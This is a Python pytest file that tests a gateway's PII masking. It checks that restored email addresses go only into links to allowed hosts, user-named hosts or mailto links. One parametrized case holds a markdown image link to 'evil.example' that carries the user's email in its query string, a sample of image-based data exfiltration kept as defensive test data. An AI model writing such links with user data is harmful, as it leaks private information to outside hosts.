"""Restored values stay out of links that lead elsewhere, over real sockets."""

from __future__ import annotations

import pytest

from tests.fixtures.gateway import Converse

CHECK = {
    "use": "pii", "on": ["input"], "action": "mask", "on_error": "closed", "link_hosts": ["crm.example"],
}  # fmt: skip


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("link", "restored"),
    [
        ("![x](https://evil.example/?q=[[EMAIL_ADDRESS_1]])", False),
        ("https://www.crm.example/find?mail=[[EMAIL_ADDRESS_1]]", True),
        ("https://mine.example/?m=[[EMAIL_ADDRESS_1]]", True),
        ("mailto:[[EMAIL_ADDRESS_1]]", True),
    ],
)
async def test_a_value_goes_only_where_it_may(talk: Converse, stream: bool, link: str, restored: bool) -> None:
    """Into links of the operator's hosts, of hosts that the user named, and to mail programs; else the placeholder stays,
    and the response says so. Outside links the value is always restored."""
    async with talk(guardrails={"private": CHECK}, routes={"default": {"guardrails": ["private"]}}) as t:
        answer = f"Hello [[EMAIL_ADDRESS_1]], see {link} now."
        t.upstream.script("m", [answer[at : at + 3] for at in range(0, len(answer), 3)])
        reply = await t.ask("I am jane@example.com, my page is https://mine.example/home", stream=stream)
        value = "jane@example.com" if restored else "[[EMAIL_ADDRESS_1]]"
        assert reply.text == f"Hello jane@example.com, see {link.replace('[[EMAIL_ADDRESS_1]]', value)} now."
        receipt = await t.receipt()
        assert any("link" in warning for warning in receipt.warnings) is not restored
